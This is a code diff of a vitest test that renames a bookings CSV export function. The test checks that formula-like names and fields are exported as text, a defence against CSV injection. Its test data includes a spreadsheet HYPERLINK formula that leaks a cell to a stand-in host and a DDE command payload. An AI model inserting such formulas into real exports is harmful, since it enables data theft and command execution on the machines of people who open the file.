@@ -1,5 +1,5 @@
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
-import { meetingsCsv } from '~/.server/admin/bookings-export'
+import { bookingsCsv } from '~/.server/admin/bookings-export'
 import { subscribersCsv } from '~/.server/newsletter/newsletter'
 import { adminCopy } from '~/content/admin'
 import { newsletterCopy } from '~/content/newsletter'
@@ -26,7 +26,7 @@ async function asAdmin() {
 const hyperlink = '=HYPERLINK("http://evil.test/?"&D3;"Ver")'
 const command = "=cmd|' /C calc'!A0"
 
-describe('/admin/reuniones.csv (meetingsCsv)', () => {
+describe('/admin/reuniones.csv (bookingsCsv)', () => {
 	test('a name, reason, address or meeting link that begins like a formula is exported as text', async () => {
 		const marker = uniqueName('csv')
 		const email = `+${marker}@kia.test`
@@ -35,9 +35,9 @@ describe('/admin/reuniones.csv (meetingsCsv)', () => {
 			.insert({ ...uniqueSlot(), nombre: hyperlink, email, motivo: command, meet_url: '@SUM(1+1)' })
 		expect(inserted.error).toBeNull()
 
-		const stream = await meetingsCsv(await asAdmin(), { termino: marker, filters: {} })
+		const stream = await bookingsCsv(await asAdmin(), { termino: marker, filters: {} })
 		const [header, ...rows] = await readCsvStream(stream ?? new ReadableStream())
-		expect(header).toEqual([...adminCopy.meetings.csvColumns])
+		expect(header).toEqual([...adminCopy.bookings.csvColumns])
 		expect(rows).toHaveLength(1)
 		const [fecha, hora, nombre, address, motivo, estado, enlace] = rows[0] ?? []
 		expect({ nombre, address, motivo, enlace }).toEqual({
